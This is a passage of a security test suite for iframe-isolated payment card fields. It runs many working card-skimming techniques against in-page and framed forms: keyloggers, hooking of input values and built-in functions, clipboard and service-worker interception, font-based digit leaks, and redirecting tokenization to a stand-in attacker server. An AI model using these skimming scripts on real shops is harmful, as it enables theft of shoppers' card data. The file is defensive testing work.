// What a hostile script with full powers over the shop's page can learn of a card. Each attack is run against the form in
// the page first, to show that it works, and then, the same script, against the form in a frame. The table that this test
// prints is the one in docs/isolated-fields.md, in every engine.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { pause, shopPage, startIsolation, typeCard, until } from './isolation.mjs';

/** Of a Visa card that the sandbox knows, with digits that do not repeat. */
const CARD = { number: '4539148803436467', expiry: '1230', cvc: '739', holder: 'Ana Mora' };

/** How many digits of the number stand in a row in what was stolen. The first eight and the last four are no secret. */
function stolenDigits(loot) {
  const text = JSON.stringify(loot).replace(/[ \u00a0-]/g, '');
  for (let length = CARD.number.length; length > 0; length--) {
    for (let at = 0; at + length <= CARD.number.length; at++) {
      if (text.includes(CARD.number.slice(at, at + length))) return length;
    }
  }
  return 0;
}

const hasNumber = (loot) => stolenDigits(loot) === CARD.number.length;

/** In words. Three digits in a row are found anywhere. */
function inWords(loot) {
  const digits = stolenDigits(loot);
  return digits === CARD.number.length
    ? 'the number'
    : digits <= 3
      ? 'nothing'
      : digits === 4
        ? 'the last four digits'
        : `${digits} digits`;
}

// ------------------------------------------------------------------------------------------ attacks that only watch

/**
 * All of these run at once, each with a list of its own in `loot`, before any script of the shop does. `late` of each is
 * called once the card is typed.
 */
function watchers({ isolated }) {
  const loot = {};
  const late = {};
  globalThis.attack = { loot, late };
  const { apply, construct } = Reflect;
  const { push } = Array.prototype;
  /** A spy does not spy on itself, nor on the others. */
  let spying = false;
  const spied = (work) => {
    if (spying) return;
    spying = true;
    try {
      work();
    } catch {
      // What it wants is not there.
    }
    spying = false;
  };
  const watch = (name, begin, end) => {
    loot[name] = [];
    const take = (...what) => {
      for (const one of what) {
        if (typeof one === 'string' && one.length < 4000 && loot[name].length < 5000) apply(push, loot[name], [one]);
      }
    };
    begin?.(take);
    late[name] = () => end?.(take);
  };
  const patch = (object, name, spy, back) => {
    const real = object[name];
    object[name] = function patched(...args) {
      spied(() => apply(spy, this, args));
      const result = new.target ? construct(real, args, new.target) : apply(real, this, args);
      if (back) spied(() => back(result));
      return result;
    };
    object[name].prototype = real.prototype;
  };
  const frame = () => document.querySelector('iframe');
  const attempt = (work) => {
    try {
      return String(work());
    } catch (error) {
      return error.name;
    }
  };

  // --- the document
  watch('reads the fields of the document', null, (take) => {
    const documents = [document];
    for (const one of [() => frame().contentDocument, () => frames[0].document, () => frame().contentWindow.document]) {
      try {
        documents.push(one());
      } catch {}
    }
    for (const one of documents.filter(Boolean)) {
      take(...[...one.querySelectorAll('input')].map(({ value }) => value));
    }
  });
  watch('follows the field that has the focus', (take) => {
    setInterval(() => take(document.activeElement?.value), 50);
  });
  watch('makes a FormData of every form', null, (take) => {
    for (const form of document.querySelectorAll('form')) take(...new FormData(form).values());
  });
  watch('copies the element with what is in it', null, (take) => {
    const from = document.querySelector('#card');
    const copy = from.cloneNode(true);
    take(copy.outerHTML, ...[...copy.querySelectorAll('input')].map(({ value }) => value), from.innerText);
    take(new XMLSerializer().serializeToString(from));
  });
  watch('selects and asks for the selection', null, (take) => {
    const input = document.querySelector('[data-field="number"] input') ?? frame();
    input.focus();
    input.select?.();
    document.execCommand('selectAll');
    take(getSelection().toString(), input.value?.slice(input.selectionStart, input.selectionEnd));
  });
  watch('asks what is under each point', null, (take) => {
    for (let y = 0; y < 600; y += 20) {
      const found = document.elementFromPoint(100, y);
      take(found?.value, document.caretRangeFromPoint?.(100, y)?.startContainer.textContent);
    }
  });
  watch("looks through the frame's window", null, (take) => {
    const window = frame()?.contentWindow ?? globalThis;
    for (const name of ['name', 'origin', 'length', 'status', 'location', 'history', 'localStorage', 'document']) {
      take(attempt(() => (name === 'document' ? window.document.forms[1].elements[0].value : window[name])));
    }
    take(attempt(() => window.eval('document.querySelector("[data-field=number] input").value')));
    take(attempt(() => window[0]?.document.body.innerText));
  });

  // --- events
  watch(
    'listens to every key',
    () => {
      globalThis.attack.keys = '';
      addEventListener(
        'keydown',
        ({ key }) => {
          globalThis.attack.keys += key;
        },
        true,
      );
    },
    (take) => take(globalThis.attack.keys),
  );
  watch('listens to input and composition', (take) => {
    for (const type of ['beforeinput', 'input', 'change', 'textInput', 'compositionend']) {
      addEventListener(type, ({ target, data }) => take(target.value, data), true);
    }
  });
  watch('wraps every listener that is added', (take) => {
    const { addEventListener: add } = EventTarget.prototype;
    EventTarget.prototype.addEventListener = function added(type, listener, ...more) {
      const wrapped = (event) => {
        take(event.target?.value, event.key);
        return typeof listener === 'function' ? listener.call(this, event) : listener?.handleEvent(event);
      };
      return apply(add, this, [type, listener && wrapped, ...more]);
    };
  });
  watch('listens to what is copied, cut and pasted', (take) => {
    for (const type of ['copy', 'cut', 'paste']) {
      addEventListener(
        type,
        (event) => {
          const { value, selectionStart, selectionEnd } = event.target;
          take(value?.slice(selectionStart, selectionEnd), event.clipboardData?.getData('text'));
        },
        true,
      );
    }
  });

  // --- what the program in the page calls
  watch('replaces the getter of every value', (take) => {
    const { get, set } = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
    Object.defineProperty(HTMLInputElement.prototype, 'value', {
      configurable: true,
      get() {
        const value = apply(get, this, []);
        spied(() => take(value));
        return value;
      },
      set(value) {
        spied(() => take(value));
        apply(set, this, [value]);
      },
    });
  });
  watch('replaces the methods of strings', (take) => {
    for (const name of ['replace', 'slice', 'trim', 'replaceAll', 'charCodeAt']) {
      patch(String.prototype, name, function spy() {
        const text = `${this}`;
        if (text.length > 10 && text.length < 30) take(text);
      });
    }
  });
  watch('replaces the methods of arrays and objects', (take) => {
    for (const name of ['fromEntries', 'entries', 'assign', 'keys']) {
      patch(Object, name, (...given) => {
        for (const one of given) take(one?.number, one?.body);
      });
    }
    for (const name of ['map', 'find', 'some', 'filter', 'push']) {
      patch(Array.prototype, name, function spy() {
        if (this.length < 100) for (const one of this) take(one?.value, one?.number);
      });
    }
  });
  watch('pollutes Object.prototype', (take) => {
    // Whoever reads a member that is not there calls this; whoever sets one shows its value.
    for (const name of ['card', 'number', 'cvc', 'pan', 'parents', 'server', 'publicKey']) {
      Object.defineProperty(Object.prototype, name, {
        configurable: true,
        get() {
          spied(() =>
            take(
              this?.value,
              attempt(() => JSON.stringify(this)),
            ),
          );
          return undefined;
        },
        set(value) {
          spied(() => take(value));
          Object.defineProperty(this, name, { value, writable: true, configurable: true, enumerable: true });
        },
      });
    }
  });
  watch('replaces Promise and JSON', (take) => {
    patch(JSON, 'stringify', (given) => {
      if (given?.number || given?.card) take(given.number, given.card?.number);
    });
    patch(JSON, 'parse', (text) => take(text));
    // Without what is replaced elsewhere, a page gets at what a promise ends with.
    patch(Promise.prototype, 'then', (done) => take(String(done)));
    patch(Promise, 'resolve', (given) => take(given?.number, given?.body));
  });
  watch('replaces TextEncoder and TextDecoder, between script and module', (take) => {
    patch(TextEncoder.prototype, 'encodeInto', (text) => take(text));
    patch(TextDecoder.prototype, 'decode', () => {}, take);
  });
  watch("reads the module's memory", (take) => {
    const memories = [];
    const look = () => {
      for (const { buffer } of memories) {
        const text = new TextDecoder('latin1').decode(buffer);
        for (const [run] of text.matchAll(/\d[\d ]{14,20}/g)) take(run);
      }
    };
    const watched = (instance) => {
      if (instance.exports.memory) memories.push(instance.exports.memory);
      const exports = {};
      for (const [name, value] of Object.entries(instance.exports)) {
        exports[name] =
          typeof value === 'function'
            ? (...args) => {
                look();
                return value(...args);
              }
            : value;
      }
      return new Proxy(instance, { get: (target, name) => (name === 'exports' ? exports : Reflect.get(target, name)) });
    };
    WebAssembly.Instance = new Proxy(WebAssembly.Instance, {
      construct: (target, args) => watched(Reflect.construct(target, args)),
    });
    const { instantiate } = WebAssembly;
    WebAssembly.instantiate = async (...args) => {
      const made = await instantiate.apply(WebAssembly, args);
      return made.instance ? { ...made, instance: watched(made.instance) } : watched(made);
    };
  });
  watch('replaces fetch, XMLHttpRequest, WebSocket and sendBeacon', (take) => {
    patch(globalThis, 'fetch', (url, init) => take(String(url), String(init?.body)));
    patch(XMLHttpRequest.prototype, 'send', (body) => take(body));
    patch(WebSocket.prototype, 'send', (body) => take(body));
    patch(navigator, 'sendBeacon', (url, body) => take(url, body));
    patch(globalThis, 'Worker', (url) => take(url));
    patch(Request.prototype, 'text', () => {});
  });

  // --- messages
  watch('listens to all messages, and replaces MessagePort and MessageChannel', (take) => {
    const spread = (data) => take(attempt(() => JSON.stringify(data)));
    addEventListener('message', ({ data }) => spread(data), true);
    patch(MessagePort.prototype, 'postMessage', (data) => spread(data));
    patch(globalThis, 'postMessage', (data) => spread(data));
    const { set } = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
    Object.defineProperty(MessagePort.prototype, 'onmessage', {
      configurable: true,
      set(listener) {
        const heard = (event) => {
          spread(event.data);
          return listener?.(event);
        };
        apply(set, this, [listener && heard]);
      },
    });
    const channel = new BroadcastChannel('cardseal');
    channel.onmessage = ({ data }) => spread(data);
    // Against fields in the page there are no messages; their events carry what is typed.
    if (!isolated) addEventListener('input', ({ target }) => spread(target.value), true);
  });

  // --- what a browser notes by itself
  watch('reads addresses, referrer, history, storage and resource timing', null, (take) => {
    take(location.href, document.referrer, String(history.length), document.cookie);
    take(JSON.stringify({ ...localStorage, ...sessionStorage }));
    take(...performance.getEntries().map(({ name }) => name));
    take(attempt(() => frame().contentWindow.location.href));
  });
}

/** Runs in the page: talks to the fields in place of the element. */
function connecting() {
  globalThis.heard = [];
  globalThis.connect = (target, origin, more = {}) => {
    const { port1, port2 } = new MessageChannel();
    const nonce = '0123456789abcdef0123456789abcdef';
    port1.onmessage = ({ data }) => globalThis.heard.push(data);
    target.postMessage({ cardseal: 'connect', version: 1, nonce, ...more }, origin, [port2]);
    return port1;
  };
}

/** Registers the attacks in one engine. */
export function attacksIn(engine) {
  let all;
  before(async () => {
    all = await startIsolation({ engine });
  });
  after(() => all?.stop());

  const rows = [];
  const note = (name, page, frame) => rows.push({ name, page, frame });

  const WATCHERS_THAT_FIND_NOTHING_IN_A_PAGE = [
    'replaces Promise and JSON',
    'reads addresses, referrer, history, storage and resource timing',
    'pollutes Object.prototype',
  ];

  /** Types the card, takes a token, and gives what each of the watchers has. */
  async function watched(isolated) {
    const it = await all.open(isolated, { init: watchers, platform: 'gp_api' });
    await typeCard(it, CARD);
    await it.field('number').click();
    await it.page.keyboard.press('Control+A');
    await it.page.keyboard.press('Control+C');
    await it.page.waitForFunction(() => document.querySelector('#card').state === 'valid');
    await it.page.evaluate(async () => {
      for (const end of Object.values(globalThis.attack.late)) end();
    });
    const token = await it.page.evaluate(() => document.querySelector('#card').tokenize());
    assert.match(token.id, /^tok_/);
    const loot = await it.page.evaluate(() => globalThis.attack.loot);
    await it.close();
    return loot;
  }

  test('what a script can watch in the page, it cannot watch in the frame', async () => {
    const [page, frame] = [await watched(false), await watched(true)];
    const wrong = [];
    for (const name of Object.keys(page)) {
      const nothing = WATCHERS_THAT_FIND_NOTHING_IN_A_PAGE.includes(name);
      note(name, inWords(page[name]), inWords(frame[name]));
      if (hasNumber(page[name]) === nothing) wrong.push(`${name}, in the page`);
      // What the page is told: the last four digits, and those of the token.
      if (stolenDigits(frame[name]) > 4)
        wrong.push(`${name}, in the frame: ${JSON.stringify(frame[name]).slice(0, 900)}`);
    }
    assert.deepEqual(wrong, []);
  });

  // ------------------------------------------------------------------------------------------- attacks that interfere

  /**
   * One attack by itself. `init` runs in the page before its scripts, `act` while the shopper is there (default: who types the
   * card), `loot` gives what was stolen. `works` says of the form in the page and of that in the frame whether it did.
   */
  function attack(
    name,
    { init, options = {}, act = (it) => typeCard(it, CARD), loot = pageLoot, works = hasNumber, says },
  ) {
    test(name, async () => {
      const results = [];
      for (const isolated of [false, true]) {
        const it = await all.open(isolated, { init, ...options });
        const done = await act(it);
        const stolen = await loot(it, done);
        results.push({
          works: works(stolen),
          says: says?.(isolated, stolen) ?? inWords(stolen),
          stolen,
        });
        await it.close();
      }
      const [page, frame] = results;
      note(name, page.says, frame.says);
      assert.ok(page.works, `in the page: ${JSON.stringify(page.stolen).slice(0, 500)}`);
      assert.ok(!frame.works, `in the frame: ${JSON.stringify(frame.stolen).slice(0, 500)}`);
    });
  }

  const pageLoot = ({ page }) => page.evaluate(() => globalThis.loot);

  attack('takes the focus in the middle of typing', {
    init: () => {
      globalThis.loot = { taken: '', left: '' };
      addEventListener('load', () => {
        const bait = document.createElement('input');
        bait.style.cssText = 'position:fixed;top:0;opacity:0';
        document.body.append(bait);
        globalThis.take = () => {
          globalThis.loot.left = document.querySelector('[data-field="number"] input')?.value ?? '';
          bait.focus();
        };
        bait.addEventListener('input', () => {
          globalThis.loot.taken = bait.value;
        });
      });
    },
    act: async ({ page, field }) => {
      await field('number').click();
      await page.keyboard.type(CARD.number.slice(0, 8));
      await page.evaluate(() => globalThis.take());
      await page.keyboard.type(CARD.number.slice(8));
      return { shown: await field('number').inputValue() };
    },
    loot: async (it, { shown }) => {
      const { left, taken } = await pageLoot(it);
      // In the frame the first half is gone as well, so that nobody has both.
      if (it.isolated) assert.equal(shown, '');
      return left.replace(/\D/g, '') + taken;
    },
    says: (isolated) => (isolated ? 'the eight digits typed afterwards' : 'the number'),
  });

  attack('reads the clipboard after the shopper has copied', {
    options: { permissions: ['clipboard-read', 'clipboard-write'] },
    act: async (it) => {
      await it.page.evaluate(() => navigator.clipboard.writeText('nothing'));
      await typeCard(it, CARD);
      await it.field('number').click();
      await it.page.keyboard.press('Control+A');
      await it.page.keyboard.press('Control+C');
      await it.page.keyboard.press('Control+X');
      await it.page.locator('#email').click();
    },
    loot: ({ page }) => page.evaluate(() => navigator.clipboard.readText()),
  });

  attack('listens to what is pasted', {
    init: () => {
      globalThis.loot = [];
      addEventListener('paste', (event) => globalThis.loot.push(event.clipboardData.getData('text')), true);
      addEventListener('beforeinput', ({ data }) => globalThis.loot.push(data), true);
    },
    options: { permissions: ['clipboard-read', 'clipboard-write'] },
    act: async (it) => {
      // From another program, as a password manager would.
      const other = await it.newPage();
      all.evil.files['/other'] = '<p>';
      await other.goto(`${all.evil.origin}/other`);
      await other.evaluate((text) => {
        document.body.innerHTML = `<input value="${text}">`;
        document.querySelector('input').select();
      }, CARD.number);
      await other.keyboard.press('Control+C');
      await other.close();
      await it.page.bringToFront();
      await it.field('number').click();
      await it.page.keyboard.press('Control+V');
      assert.equal((await it.field('number').inputValue()).replaceAll(' ', ''), CARD.number);
    },
  });

  attack('has the text dragged out of the field', {
    init: () => {
      globalThis.loot = [];
      addEventListener('dragover', (event) => event.preventDefault(), true);
      addEventListener('dragstart', (event) => globalThis.loot.push(event.dataTransfer?.getData('text')), true);
      addEventListener('drop', (event) => globalThis.loot.push(event.dataTransfer.getData('text')), true);
    },
    act: async (it) => {
      await typeCard(it, CARD);
      const number = it.field('number');
      await number.click();
      await it.page.keyboard.press('Control+A');
      const box = await number.boundingBox();
      await it.page.mouse.move(box.x + 40, box.y + box.height / 2);
      await it.page.mouse.down();
      await it.page.mouse.move(box.x + 60, box.y + 60, { steps: 5 });
      await it.page.mouse.move(300, 600, { steps: 5 });
      await it.page.mouse.up();
    },
  });

  attack('lays an invisible layer over the form and passes clicks on', {
    init: () => {
      globalThis.loot = [];
      addEventListener('load', () => {
        const layer = document.createElement('div');
        layer.style.cssText = 'position:fixed;inset:0;z-index:9;opacity:0.01;background:#fff';
        layer.id = 'layer';
        document.body.append(layer);
        layer.addEventListener('click', () => document.querySelector('#card').focus());
        for (const type of ['keydown', 'keypress', 'input']) {
          addEventListener(type, ({ key, target }) => globalThis.loot.push(target.value ?? key), true);
        }
      });
    },
    act: async ({ page, field }) => {
      await page.mouse.click(300, 60);
      await until('the number to have the focus', () =>
        field('number').evaluate((node) => node === document.activeElement),
      );
      await page.keyboard.type(CARD.number, { delay: 5 });
      await pause(300);
    },
  });

  attack('names a server of its own', {
    options: { attributes: 'server="EVIL"' },
    init: ({ evil }) => {
      new MutationObserver(() => {
        const card = document.querySelector('#card');
        if (card && card.getAttribute('server') !== evil) card.setAttribute('server', evil);
      }).observe(document, { childList: true, subtree: true });
    },
    act: async (it) => {
      const { public_key: own } = all.sandbox.greenpay;
      const session = { id: 'ses_evil', platform: 'greenpay', kind: 'tokenize', mode: 'relay', expires_in: 1800 };
      const times = {
        created_at: new Date().toISOString(),
        expires_at: new Date(Date.now() + 1_800_000).toISOString(),
      };
      all.evil.requests.length = 0;
      all.evil.files['/v1/sessions'] = () => JSON.stringify({ ...session, ...times, public_key: own });
      all.evil.files['/v1/tokens'] = () => '{}';
      await typeCard(it, CARD);
      await it.page.evaluate(() =>
        document
          .querySelector('#card')
          .tokenize()
          .catch(() => {}),
      );
    },
    loot: () => all.evil.requests.filter(({ body }) => body.includes('"lk"')).map(({ url }) => url),
    works: (stolen) => stolen.length > 0,
    says: (_, stolen) => (stolen.length > 0 ? 'the card, sealed to its own key' : 'is not asked'),
  });

  attack('passes a session with a key of its own', {
    init: () => {
      const { fetch } = globalThis;
      globalThis.loot = [];
      globalThis.fetch = (url, init) => {
        globalThis.loot.push(String(init?.body));
        return fetch(url, init);
      };
    },
    act: async (it) => {
      await typeCard(it, CARD);
      // An attacker would have made this key; here it is that of the sandbox.
      await it.page.evaluate(async (key) => {
        const headers = { 'content-type': 'application/json' };
        const opened = await (await fetch('/v1/sessions', { method: 'POST', body: '{}', headers })).json();
        globalThis.loot.length = 0;
        const card = document.querySelector('#card');
        card.session = { ...opened, public_key: key };
        await card.tokenize().catch(() => {});
      }, all.sandbox.greenpay.public_key);
    },
    works: (stolen) => stolen.some((body) => body.includes('"lk"')),
    says: (isolated) => (isolated ? 'nothing: only the id is used' : 'the card, sealed to its own key'),
  });

  attack('passes a session with an access token and a host of its own', {
    options: { platform: 'gp_api' },
    act: async (it) => {
      all.evil.requests.length = 0;
      all.evil.files['/ucp/payment-methods'] = () => '{}';
      await typeCard(it, CARD);
      await it.page.evaluate(async (evil) => {
        const body = JSON.stringify({ platform: 'gp_api' });
        const headers = { 'content-type': 'application/json' };
        const opened = await (await fetch('/v1/sessions', { method: 'POST', body, headers })).json();
        const card = document.querySelector('#card');
        card.session = { ...opened, access_token: 'own', base_url: `${evil}/ucp` };
        await card.tokenize().catch(() => {});
      }, all.evil.origin);
    },
    loot: () => all.evil.requests.map(({ body }) => body),
  });

  attack('answers as a service worker of the page', {
    options: { platform: 'gp_api', serviceWorkers: 'allow' },
    act: async (it) => {
      all.shop.files['/sw.js'] = `
      let loot = [];
      addEventListener('install', () => skipWaiting());
      addEventListener('activate', (event) => event.waitUntil(clients.claim()));
      addEventListener('message', (event) => event.source.postMessage(loot));
      addEventListener('fetch', (event) => {
        if (event.request.method !== 'POST') return;
        const copy = event.request.clone();
        event.respondWith(copy.text().then((text) => { loot.push(text); return fetch(event.request); }));
      });`;
      await it.page.evaluate(async () => {
        await navigator.serviceWorker.register('/sw.js');
        await navigator.serviceWorker.ready;
        if (!navigator.serviceWorker.controller) {
          await new Promise((done) => navigator.serviceWorker.addEventListener('controllerchange', done));
        }
      });
      await typeCard(it, CARD);
      await it.page.evaluate(() => document.querySelector('#card').tokenize());
    },
    loot: ({ page }) =>
      page.evaluate(
        () =>
          new Promise((done) => {
            navigator.serviceWorker.addEventListener('message', ({ data }) => done(data));
            navigator.serviceWorker.controller.postMessage('loot');
          }),
      ),
  });

  attack('has a font fetched for each digit', {
    options: {
      more: `<style>${[...'0123456789']
        .map((digit) => `@font-face{font-family:spy;src:url(/leak-${digit});unicode-range:U+3${digit}}`)
        .join(
          '',
        )} #card,#card input{font-family:spy!important;--cardseal-font:spy} input:has(~*){font-family:spy}</style>`,
    },
    act: async (it) => {
      all.shop.requests.length = 0;
      await it.page.evaluate(() => {
        document.querySelector('#card').fieldsStyle = { '--cardseal-font': 'spy', 'font-family': 'spy' };
      });
      await typeCard(it, CARD);
      await pause(500);
    },
    loot: () =>
      [...new Set(all.shop.requests.flatMap(({ url }) => /^\/leak-(\d)$/.exec(url)?.[1] ?? []))].sort().join(''),
    // Those of the placeholder are fetched before.
    works: (stolen) => [...'056789'].every((digit) => stolen.includes(digit)),
    says: (_, stolen) => (stolen ? `which digits occur: ${stolen}` : 'nothing is fetched'),
  });

  attack('has an address fetched by a style', {
    act: async (it) => {
      all.shop.requests.length = 0;
      await it.page.evaluate(() => {
        const card = document.querySelector('#card');
        const style = Object.fromEntries(
          ['background', 'border', 'accent', 'text', 'font', 'radius', 'danger-background', 'gap', 'height'].map(
            (name) => [`--cardseal-${name}`, `url(${location.origin}/leak-${name})`],
          ),
        );
        for (const [name, value] of Object.entries(style)) card.style.setProperty(name, value);
        card.fieldsStyle = style;
      });
      await typeCard(it, CARD);
      await pause(500);
    },
    loot: () => all.shop.requests.map(({ url }) => url).filter((url) => url.startsWith('/leak')),
    works: (stolen) => stolen.length > 0,
    says: (_, stolen) => (stolen.length > 0 ? 'its address is fetched' : 'nothing is fetched'),
  });

  attack('replaces the source of randomness', {
    init: () => {
      globalThis.loot = [];
      const { getRandomValues } = Crypto.prototype;
      Crypto.prototype.getRandomValues = function zeros(array) {
        if (this === crypto && array.length >= 16) globalThis.loot.push(array.length);
        return getRandomValues.call(this, array).fill(7);
      };
    },
    act: async (it) => {
      await typeCard(it, CARD);
      await it.page.evaluate(() => {
        globalThis.loot.length = 0;
        return document
          .querySelector('#card')
          .tokenize()
          .catch(() => {});
      });
    },
    works: (stolen) => stolen.length > 0,
    says: (_, stolen) => (stolen.length > 0 ? 'makes the key itself' : 'is not asked'),
  });

  attack('times the keys', {
    init: () => {
      globalThis.loot = [];
      const now = () => globalThis.loot.push(performance.now());
      for (const type of ['keydown', 'input']) addEventListener(type, now, true);
      const { set } = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
      Object.defineProperty(MessagePort.prototype, 'onmessage', {
        set(listener) {
          set.call(this, (event) => {
            now();
            listener(event);
          });
        },
      });
      addEventListener('load', () => {
        document.querySelector('#card').addEventListener('statechange', now);
        new ResizeObserver(now).observe(document.querySelector('#card'));
        new MutationObserver(now).observe(document, { subtree: true, attributes: true, childList: true });
        new PerformanceObserver(now).observe({ type: 'event', durationThreshold: 16, buffered: true });
      });
    },
    act: async ({ page, field }) => {
      await field('number').click();
      await page.evaluate(() => {
        globalThis.loot.length = 0;
      });
      await page.keyboard.type(CARD.number, { delay: 60 });
      await pause(500);
    },
    // Moments that are no further apart than a screen's refresh are one.
    loot: async (it) =>
      (await pageLoot(it))
        .sort((one, other) => one - other)
        .filter((time, at, list) => at === 0 || time - list[at - 1] > 20),
    works: (stolen) => stolen.length >= CARD.number.length,
    says: (isolated) => (isolated ? 'a moment every 200 ms' : 'the moment of each key'),
  });

  attack('reads what the element tells and what a token has', {
    init: () => {
      globalThis.loot = [];
      addEventListener('load', () => {
        const card = document.querySelector('#card');
        for (const type of ['statechange', 'token', 'failure', 'ready', 'payment']) {
          card.addEventListener(type, ({ detail }) => globalThis.loot.push(JSON.stringify(detail)));
        }
      });
    },
    act: async (it) => {
      await typeCard(it, CARD);
      await it.page.evaluate(() => document.querySelector('#card').tokenize());
    },
    works: (stolen) => /Ana Mora/.test(stolen) && stolenDigits(stolen) >= 6,
    says: (_, stolen) => (/Ana Mora/.test(stolen) ? 'name, first and last digits' : 'the last four digits'),
  });

  // ----------------------------------------------------------------------------- attacks that only a frame gives cause for

  test('takes the place of the element, and says what the fields must not listen to', async () => {
    const it = await all.open(true, {
      init: `(given) => { (${connecting})(given); document.addEventListener('load', (event) => {
      if (event.target.tagName === 'IFRAME') globalThis.port ??= connect(event.target.contentWindow, '*');
    }, true); }`,
      ready: false,
    });
    await until('the fields to answer the attacker', () => it.page.evaluate(() => globalThis.heard.length > 0));
    all.evil.requests.length = 0;
    await it.page.evaluate((evil) => {
      const words = { labels: { number: 'Name for the saved card', nickname: 'Card number', holder: 'Card number' } };
      const session = { id: 'ses_evil', platform: 'greenpay', mode: 'relay', kind: 'tokenize', public_key: 'own' };
      const settings = {
        platform: 'greenpay',
        server: evil,
        messages: { en: words },
        session,
        lang: 'en',
        nickname: true,
      };
      const more = {
        openSession: 'own',
        parents: ['*'],
        fieldsStyle: { color: 'red' },
        style: { color: 'red' },
        opens: false,
      };
      document.querySelector('iframe').style.height = '500px';
      globalThis.port.postMessage({ type: 'settings', settings: { ...settings, ...more } });
      for (const type of ['read', 'eval', 'value', '__proto__', 'constructor'])
        globalThis.port.postMessage({ type, id: 1 });
    }, all.evil.origin);
    await it.field('number').waitFor();
    await it.labelled('Card number');
    assert.equal(await it.field('number').getAttribute('name'), 'cardnumber');
    await typeCard(it, CARD);
    await it.page.evaluate(() => {
      for (const name of ['tokenize', 'check', 'pay', 'toString']) {
        globalThis.port.postMessage({ type: 'call', id: 7, name, options: { server: 'x', report: true } });
      }
    });
    await until('a token', () =>
      it.page.evaluate(() => globalThis.heard.some(({ value }) => value?.id?.startsWith('tok_'))),
    );
    const heard = await it.page.evaluate(() => globalThis.heard);
    assert.ok(stolenDigits(heard) <= 4, JSON.stringify(heard));
    assert.ok(!JSON.stringify(heard).includes('Ana Mora'));
    assert.deepEqual(all.evil.requests, []);
    note('takes the place of the element and sends its own address, key and labels', '—', 'nothing more: none is used');
    await it.close();
  });

  test('connects a second time, with the nonce of the first or another', async () => {
    const it = await all.open(true, { init: connecting });
    await typeCard(it, CARD);
    await it.page.evaluate(() => {
      const { contentWindow } = document.querySelector('iframe');
      for (const more of [{}, { nonce: 'x' }, { version: 2 }, { nonce: ['0123456789abcdef0123456789abcdef'] }]) {
        globalThis.connect(contentWindow, '*', more);
      }
    });
    await pause(1000);
    assert.deepEqual(await it.page.evaluate(() => globalThis.heard), []);
    note('connects a second time, or replays a nonce', '—', 'no answer');
    await it.close();
  });

  test('connects from a window of another origin', async () => {
    all.evil.files['/evil.html'] = `<script>(${connecting})();
    connect(parent.frames[0], '*'); connect(parent.frames[0], '${all.fields.origin}');</script>`;
    const it = await all.open(true);
    await it.page.evaluate((url) => {
      const frame = document.createElement('iframe');
      frame.src = url;
      document.body.append(frame);
    }, `${all.evil.origin}/evil.html`);
    const heard = () => it.within(['iframe[src$="/evil.html"]'], () => globalThis.heard ?? null);
    await until('the other frame', heard);
    await typeCard(it, CARD);
    await pause(1000);
    assert.deepEqual(await heard(), []);
    note('connects from a window of another origin', '—', 'no answer');
    await it.close();
  });

  test('shows the fields in a window of its own, or inside a page that is not among the parents', async () => {
    all.evil.files['/evil.html'] = `<iframe src="${all.fields.url}"></iframe><script>(${connecting})();
    addEventListener('load', () => connect(frames[0], '*'));</script>`;
    const it = await all.elsewhere();
    const { page } = it;
    await page.goto(`${all.evil.origin}/evil.html`);
    await pause(1000);
    // By frame-ancestors.
    const refused = await it.within(['iframe'], () => document.documentURI);
    assert.ok(!refused.startsWith(all.fields.origin), refused);
    assert.deepEqual(await page.evaluate(() => globalThis.heard), []);
    const alone = await it.opening(() =>
      page.evaluate((url) => {
        const other = open(url);
        setTimeout(() => globalThis.connect(other, '*'), 500);
      }, all.fields.url),
    );
    await pause(1500);
    assert.equal(await alone.locator('input').count(), 0);
    assert.deepEqual(await page.evaluate(() => globalThis.heard), []);
    // The shop's page inside another one: its fields stay away.
    const at = '/shop-inside.html';
    all.shop.files[at] = shopPage(`platform="greenpay" fields-url="${all.fields.url}"`);
    all.evil.files['/around.html'] = `<iframe src="${all.shop.origin}${at}"></iframe>`;
    await page.goto(`${all.evil.origin}/around.html`);
    await pause(2000);
    const inside = await it.within(['iframe', 'iframe.cardseal-frame'], () => document.documentURI);
    assert.ok(!inside.startsWith(all.fields.origin), inside);
    note('shows the fields in a window of its own, or around the shop’s page', '—', 'no fields');
    await it.close();
  });

  test('leads the frame elsewhere, takes its sandbox away, and calls it by a name', async () => {
    const it = await all.open(true);
    await typeCard(it, CARD);
    const loot = await it.page.evaluate(async () => {
      const frame = document.querySelector('iframe');
      const got = [];
      const look = () => {
        for (const read of [
          () => frame.contentDocument.documentElement.outerHTML,
          () => frame.contentWindow.document.forms[0].elements[0].value,
          () => [...frame.contentDocument.querySelectorAll('input')].map(({ value }) => value).join(),
        ]) {
          try {
            got.push(read());
          } catch (error) {
            got.push(error.name);
          }
        }
      };
      frame.removeAttribute('sandbox');
      frame.setAttribute('allow', 'clipboard-read *; clipboard-write *; camera *');
      frame.name = 'fields';
      look();
      try {
        got.push(String(open('javascript:parent.stolen=document.body.innerHTML', 'fields')));
      } catch (error) {
        got.push(error.name);
      }
      look();
      try {
        frame.contentWindow.location = 'javascript:parent.stolen=document.body.innerHTML';
      } catch (error) {
        got.push(error.name);
      }
      await new Promise((done) => setTimeout(done, 300));
      look();
      frame.srcdoc = '<script>parent.stolen = document.documentElement.outerHTML</script>';
      await new Promise((done) => setTimeout(done, 300));
      look();
      got.push(globalThis.stolen);
      return got;
    });
    assert.ok(stolenDigits(loot) <= 4, JSON.stringify(loot));
    note('takes the sandbox away, and leads the frame to javascript:, srcdoc and a named window', '—', 'nothing');
    await it.close();
  });

  test('puts a page of its own into the frame: the element takes no card from there', async () => {
    all.shop.files['/fake.html'] = '<form><input data-field="number" name="cardnumber"></form>';
    const it = await all.open(true);
    await typeCard(it, CARD);
    await it.page.waitForFunction(() => document.querySelector('#card').state === 'valid');
    await it.page.evaluate(() => {
      document.querySelector('iframe').src = '/fake.html';
    });
    await it.page.waitForFunction(() => document.querySelector('#card').state === 'loading');
    const seen = await it.page.evaluate(() => document.querySelector('iframe').contentDocument.body.innerHTML);
    assert.equal(stolenDigits(seen), 0);
    const thrown = await it.page.evaluate(() =>
      document
        .querySelector('#card')
        .tokenize()
        .catch(({ code, message }) => ({ code, message })),
    );
    assert.equal(thrown.code, 'network_failed', JSON.stringify(thrown));
